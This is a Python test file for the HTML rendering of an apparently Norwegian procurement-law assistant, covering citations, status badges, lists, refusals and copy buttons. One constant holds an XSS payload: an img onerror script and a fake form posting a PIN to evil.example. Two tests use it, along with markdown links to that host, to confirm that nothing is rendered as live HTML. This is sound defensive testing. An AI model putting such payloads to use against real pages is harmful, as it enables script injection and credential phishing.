from dataclasses import replace
from datetime import date

import pytest
from tiny import CHAIN, TODAY, TWO_LINKS, TinyAssistant, cite

from assistant import render, texts, wording
from assistant.exchanges import Exchange
from assistant.types import AnswerMode, AnswerStatus, Block, Choice, Sentence, SourceKind

EVIL = "<img src=x onerror=alert(1)><form action=//evil.example><input name=pin>\"'"


def shown(question, language="nb", number=1):
    """What the page draws for a question to the tiny assistant."""
    assistant = TinyAssistant()
    answer = assistant.ask(assistant.question(question))
    return render.exchange(Exchange(number, question, TODAY, answer=answer), language)


def drawn(answer, language="nb"):
    return render.exchange(Exchange(1, answer.question, answer.on, answer=answer), language)


@pytest.fixture
def answer():
    assistant = TinyAssistant()
    return assistant.ask(assistant.question("Hva er terskelen?"))


def test_the_choices_for_what_is_missing_stand_before_what_is_said_without_it(answer):
    choice = Choice("Varer", "Hva gjelder for varer?")
    page = drawn(replace(answer, choices=(choice,), notices=("Mangler noe.",)))
    assert (
        page.index("Mangler noe.")
        < page.index('data-ask="Hva gjelder for varer?"')
        < page.index("<p>Tabellen")
    )
    assert page.count("Mangler noe.</p>") == 1
    plain = drawn(replace(answer, notices=("Mangler noe.",)))
    assert plain.index("<p>Tabellen") < plain.index("Mangler noe.")


def test_an_answer_from_some_kinds_of_source_says_which_beside_its_day(answer):
    shown = Exchange(1, "Hei", TODAY, answer=answer, only=(SourceKind.LAW, SourceKind.OWN))
    assert "Bare fra lov og forskrift eller egen strategi og modell" in render.exchange(shown, "nb")
    assert "Bare fra" not in render.exchange(replace(shown, only=()), "nb")


@pytest.mark.parametrize("status", list(AnswerStatus))
@pytest.mark.parametrize("language", ["nb", "nn"])
def test_every_outcome_has_a_badge_in_words(answer, status, language):
    page = drawn(replace(answer, status=status), language)
    assert f'badge-{status.value}">{wording.outcome(replace(answer, status=status), language)}<' in page
    bare = replace(answer, status=status, sentences=(), citations=())
    assert f'badge-{status.value}">{texts.STATUS_IN[language][status]}<' in drawn(bare, language)


def test_an_answer_says_which_day_it_is_for(answer):
    assert "Svar for 1. juli 2026" in drawn(replace(answer, on=date(2026, 7, 1)))


def test_each_sentence_ends_in_a_marker_that_leads_to_its_source(answer):
    page = drawn(answer)
    assert page.count('data-cite="kilde-1-1"') == 3
    assert page.count('data-cite="kilde-1-2"') == 1
    assert f'href="{render.local_href(answer.citations[0].href, "nb")}"' in page
    assert 'aria-label="Kilde 2: ' in page


def test_sentences_of_one_source_share_a_paragraph_and_another_source_begins_a_new(answer):
    first, second = answer.citations
    body = (Sentence("En.", (1,)), Sentence("To.", (1,)), Sentence("Tre.", (2,)))
    page = drawn(replace(answer, sentences=body, citations=(first, second)))
    paragraphs = page.split('<div class="body"')[1].split("</div>")[0].count("<p>")
    assert paragraphs == 2


def test_items_and_rows_become_a_list_below_the_words_that_introduce_them(answer):
    page = drawn(answer)
    assert '<p><span class="lead">Fra tabellen over beløpsgrenser:</span></p><ul><li>' in page
    assert "<strong>EØS-terskel, varer og tjenester</strong>: 2,5 mill. kr" in page
    assert page.count("<li>") == 2


def test_a_quoted_block_is_drawn_as_a_quote(answer):
    page = drawn(replace(answer, sentences=(Sentence("> Ord for ord.", (1,), Block.QUOTE),)))
    assert "<blockquote><p>Ord for ord." in page


def test_a_marker_without_a_citation_is_not_drawn(answer):
    page = drawn(replace(answer, sentences=(Sentence("En.", (7,)),)))
    assert "data-cite" not in page


def test_notices_are_marked_boxes(answer):
    assert '<div class="notice" role="note"><strong>Merk</strong>' in drawn(answer)


def test_choices_and_follow_ups_are_buttons_that_ask():
    assert 'data-ask="Når må vi dele opp en bygge- og anleggskontrakt?">Bygg og anlegg</button>' in shown(
        "Når må vi dele opp?"
    )
    assert 'data-ask="Når må vi kunngjøre i TED?"' in shown("Hva er terskelen?")


def test_a_refusal_shows_its_words_and_the_nearest_sections_as_links_in_a_new_tab():
    page = shown("Hva er været?")
    assert "Kildene har ikke noe svar på dette." in page
    assert 'class="suggestion" href="/kilder/anskaffelsesforskriften-del-1-og-terskler?lang=nb#kjop' in page
    assert 'target="_blank" rel="noopener"' in page


def test_only_an_answer_with_sources_can_be_copied_and_shows_how_many_they_are():
    assert "Vis kildene (2)</button>" in shown("Hva er terskelen?")
    assert "data-copy" in shown("Hva er terskelen?")
    assert "data-copy" not in shown("Hva er været?")


def test_what_is_copied_keeps_its_line_breaks(answer):
    assert "&#10;[1] Anskaffelsesforskriften" in drawn(answer)


@pytest.mark.parametrize("state", ["running", "failed", "stopped"])
def test_an_exchange_without_an_answer_says_how_it_stands(state):
    exchange = {
        "running": Exchange(1, "Hei", TODAY, progress="Søker i kildene …"),
        "failed": Exchange(1, "Hei", TODAY, failure="Noe gikk galt."),
        "stopped": Exchange(1, "Hei", TODAY, stopped=True),
    }[state]
    page = render.exchange(exchange, "nb")
    words = {"running": "Søker i kildene …", "failed": "Noe gikk galt.", "stopped": "Stoppet før svaret kom."}
    assert f'data-state="{state}"' in page
    assert words[state] in page


def test_sentences_are_drawn_as_they_come_before_the_answer_is_whole():
    begun = Exchange(
        1, "Hei", TODAY, "Kontrollerer …", (Sentence(TWO_LINKS, (1,)),), (cite(1, CHAIN, TWO_LINKS),)
    )
    page = render.exchange(begun, "nb")
    assert "Viken godtok <strong>høyst to ledd</strong>" in page
    assert 'data-cite="kilde-1-1"' in page


def test_nothing_from_a_question_a_source_or_a_model_becomes_html(answer):
    first = replace(answer.citations[0], title=EVIL, section=EVIL, href=EVIL)
    page = drawn(
        replace(
            answer,
            question=EVIL,
            language=EVIL,
            mode=AnswerMode.GENERATIVE,
            sentences=(Sentence(EVIL, (1,)), Sentence(f"| {EVIL} | {EVIL} |", (1,), Block.ROW, EVIL)),
            citations=(first,),
            notices=(EVIL,),
            follow_ups=(EVIL,),
        )
    )
    assert "<img" not in page
    assert "<form" not in page
    assert "<input" not in page
    assert 'href="/kilder?lang=nb"' in page


def test_an_address_that_a_model_writes_reaches_nobody(answer):
    body = (Sentence("Se [skjema](https://evil.example) og ![x](https://evil.example/p).", (1,)),)
    page = drawn(replace(answer, sentences=body, notices=("[x](https://evil.example)",)))
    assert 'href="https://evil.example' not in page
    assert "<img" not in page


def test_the_sentences_are_tagged_with_the_language_they_are_in(answer):
    english = replace(answer, language="en")
    assert '<div class="body" lang="nb">' in drawn(english)
    assert '<div class="body" lang="en">' in drawn(replace(english, mode=AnswerMode.GENERATIVE))
    assert '<div class="body" lang="en">' in drawn(replace(english, sentences=(), text="Not found."))
